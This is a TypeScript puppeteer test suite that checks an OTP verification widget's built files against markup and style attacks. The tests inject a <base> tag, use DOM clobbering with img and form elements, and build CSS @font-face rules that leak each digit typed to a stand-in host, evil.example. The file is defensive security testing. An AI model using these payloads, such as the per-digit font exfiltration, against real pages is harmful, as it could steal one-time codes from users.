/** Attacks by markup and styles on the files of the package, on an https site that answers by interception. */
import assert from 'node:assert/strict';
import {readFile} from 'node:fs/promises';
import {before, describe, it, type TestContext} from 'node:test';
import type {HTTPRequest, Page} from 'puppeteer-core';
import {ensurePackage} from '../../tools/build/ensure-built.ts';
import {useBrowser} from '../harness/browsers.ts';

const SITE = 'https://site.example';

const WIDGET = `<motp-verify endpoint="api" occasion="exam" unit="1" ipin-url="ipin"
  trainee-name="홍길동"></motp-verify>`;

/** The script tags of both builds. */
const BUILDS: Readonly<Record<string, string>> = {
  'the module': `<script type="module" src="${SITE}/files/motp-verify.min.js"></script>`,
  'the classic script': `<script src="${SITE}/files/motp-verify.classic.js"></script>`,
};

/** What the widget reads of `document`, and what an image or a form of that name hides. */
const CLOBBERED = [
  'addEventListener',
  'baseURI',
  'body',
  'cookie',
  'currentScript',
  'defaultView',
  'location',
  'querySelector',
  'querySelectorAll',
  'visibilityState',
];

/** Families that a style sheet of the page tries to redefine, with a file for each digit. */
const FAMILIES = ['system-ui', 'sans-serif', 'Malgun Gothic', 'Noto Sans KR', 'spy'];

/** The time after which a page whose widget was kept from working is examined, in ms. */
const CHANCE_MS = 3000;

/** A page of the site, and what has happened in it. */
interface AttackedPage {
  readonly page: Page;
  readonly requests: readonly string[];
  readonly lines: readonly string[];
}

describe('the built files', () => {
  const browser = useBrowser();

  before(() => ensurePackage());

  for (const [build, script] of Object.entries(BUILDS)) {
    it(`${build}: a <base> that is injected later moves neither code nor link`, async (test) => {
      const attacked = await open(test, `${WIDGET}${script}`);
      const {page, requests} = attacked;
      await page.waitForSelector('motp-verify >>> input');
      await page.evaluate(() => {
        document.head.insertAdjacentHTML('afterbegin', '<base href="https://evil.example/">');
        document.querySelector('motp-verify')?.setAttribute('heading', 'built again');
      });
      await page.waitForSelector('motp-verify >>> ::-p-text(built again)');
      await enterCode(attacked);
      assert(requests.includes(`POST ${SITE}/course/api`), requests.join('\n'));
      assert.deepEqual(requests.filter(isElsewhere), []);
      const link = await page.$('motp-verify >>> a[href*="ipin"]');
      assert.equal(await link?.evaluate((a) => a.getAttribute('href')), `${SITE}/course/ipin`);
    });

    it(`${build}: an old <base> of http makes no link on an https page`, async (test) => {
      const base = '<base href="http://site.example/course/">';
      const {page, lines, requests} = await open(test, `${base}${WIDGET}${script}`);
      await until(() => lines.some((line) => line.includes('ipin-url')), 'the console names it');
      assert(lines.some((line) => line.includes('endpoint') && line.includes('https')));
      assert.equal(await page.$('motp-verify >>> a[href^="http:"]'), null);
      assert.deepEqual(
        requests.filter((line) => line.startsWith('POST')),
        [],
      );
    });

    it(`${build}: no font of the page is loaded because of a digit`, async (test) => {
      const faces = FAMILIES.flatMap((family) =>
        Array.from('0123456789', (digit) => fontFace(family, digit)),
      );
      const styles = `<style>${faces.join('\n')}
        motp-verify {--motp-font: spy; font-family: spy !important}
        motp-verify::part(code), input {font-family: spy !important}
        /* The attack works: this font is loaded for the digit 7. */
        #control {font-family: spy}</style><p id="control">7</p>`;
      const attacked = await open(test, `${styles}${WIDGET}${script}`);
      const {page, requests} = attacked;
      // The card's own text has the font of the page, with the digit 6 and without 8 and 9.
      await until(() => requests.some((line) => line.includes('spy-6')), 'the text is there');
      await enterCode(attacked, '898989');
      await page.evaluate(() => document.fonts.ready.then(() => undefined));
      const fonts = requests.filter((line) => line.includes('evil.example'));
      assert(fonts.includes('GET https://evil.example/spy-7.woff2'), fonts.join(' '));
      assert.deepEqual(
        fonts.filter((line) => /-[89]\.woff2/.test(line)),
        [],
      );
    });
  }

  for (const [build, script] of Object.entries(BUILDS)) {
    it(`${build}: runs under the policy that SECURITY.md recommends`, async (test) => {
      const [, policy] =
        /^Content-Security-Policy: ([^`]+)/m.exec(await readFile('SECURITY.md', 'utf8')) ?? [];
      assert(policy);
      const attacked = await open(test, `${WIDGET}${script}`, policy.replaceAll(/\s+/g, ' '));
      await enterCode(attacked);
      assert(attacked.requests.includes(`POST ${SITE}/course/api`));
      const violations = attacked.lines.filter((line) =>
        /Content Security Policy|Trusted/.test(line),
      );
      assert.deepEqual(violations, []);
    });

    it(`${build}: imports a chunk only with the hash of the import map`, async (test) => {
      const hashes = JSON.parse(await readFile('dist/integrity.json', 'utf8')) as Readonly<
        Record<string, string>
      >;
      const chunks = Object.entries(hashes).filter(([path]) => path.startsWith('motp-verify/'));
      const mapWith = (hashOf: (hash: string) => string): string => {
        const integrity = chunks.map(([path, hash]) => [`/files/${path}`, hashOf(hash)]);
        const map = JSON.stringify({integrity: Object.fromEntries(integrity)});
        return `<script type="importmap">${map}</script>`;
      };
      const english = WIDGET.replace('<motp-verify', '<motp-verify lang="en"');
      const right = await open(test, `${mapWith((hash) => hash)}${english}${script}`);
      await right.page.waitForSelector('motp-verify >>> ::-p-text(Verify)');
      // The hash of an empty file.
      const wrong = 'sha384-OLBgp1GsljhM2TJ+sbHjaiH9txEUvgdDTAzHv2P24donTt6/529l+9Ua0vFImLlb';
      const attacked = await open(test, `${mapWith(() => wrong)}${english}${script}`);
      await until(() => attacked.lines.some((line) => line.includes('integrity')), 'it is refused');
      assert.equal(await attacked.page.$('motp-verify >>> ::-p-text(Verify)'), null);
    });
  }

  for (const name of CLOBBERED) {
    it(`are sent nowhere else by an image and a form named ${name}`, async (test) => {
      const attacked = await open(
        test,
        `<img name="${name}" src="https://evil.example/files/x.js">
        <form name="${name}" action="https://evil.example/"><input name="origin"></form>
        ${WIDGET}${BUILDS['the module'] ?? ''}${BUILDS['the classic script'] ?? ''}`,
      );
      const {page, requests} = attacked;
      await page.waitForFunction(() => customElements.get('motp-verify'));
      await enterCode(attacked);
      const image = 'GET https://evil.example/files/x.js';
      assert.deepEqual(
        requests.filter((line) => isElsewhere(line) && line !== image),
        [],
      );
      // The code never becomes success without the endpoint, which answers 503 here.
      const status = await page.$eval('motp-verify', (widget) => widget.verification.status);
      assert.notEqual(status, 'verified');
    });
  }

  /** Opens a page of the site; requests are answered here, those of other sites with 404. */
  async function open(test: TestContext, html: string, policy = ''): Promise<AttackedPage> {
    const context = await browser().createBrowserContext();
    test.after(() => context.close());
    const page = await context.newPage();
    const requests: string[] = [];
    const lines: string[] = [];
    page.on('console', (message) => lines.push(message.text()));
    await page.setRequestInterception(true);
    page.on('request', (request) => {
      requests.push(`${request.method()} ${request.url()}`);
      void respond(request, html, policy);
    });
    await page.goto(`${SITE}/course/page`);
    return {page, requests, lines};
  }
});

async function respond(request: HTTPRequest, html: string, policy: string): Promise<void> {
  const {origin, pathname} = new URL(request.url());
  if (origin !== SITE) return request.respond({status: 404});
  if (pathname === '/course/page') {
    const body = `<!doctype html><html lang="ko">${html}`;
    const headers = policy ? {'Content-Security-Policy': policy} : {};
    return request.respond({contentType: 'text/html; charset=utf-8', headers, body});
  }
  if (!pathname.startsWith('/files/')) return request.respond({status: 503});
  const body = await readFile(pathname.replace('/files', 'dist'));
  return request.respond({contentType: 'text/javascript', body});
}

/** Types a code and presses Enter, and waits until it was posted or the page has had its chance. */
async function enterCode({page, requests}: AttackedPage, code = '123456'): Promise<void> {
  const field = await page
    .waitForSelector('motp-verify >>> input', {timeout: CHANCE_MS})
    .catch(() => {});
  if (!field) return;
  await page.$eval('motp-verify', (widget) => widget.updateComplete);
  await field.type(code);
  await page.keyboard.press('Enter');
  const isPosted = (): boolean => requests.some((line) => line.startsWith('POST'));
  await until(isPosted, 'the code is posted', CHANCE_MS).catch(() => {});
}

async function until(isTrue: () => boolean, what: string, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!isTrue()) {
    if (Date.now() > deadline) throw new Error(`Timed out: ${what}.`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

function isElsewhere(line: string): boolean {
  return /^\w+ https?:/.test(line) && !line.includes(` ${SITE}/`);
}

function fontFace(family: string, digit: string): string {
  const url = `https://evil.example/${family.replaceAll(' ', '-')}-${digit}.woff2`;
  return `@font-face {font-family: "${family}"; src: url("${url}"); unicode-range: U+003${digit}}`;
}
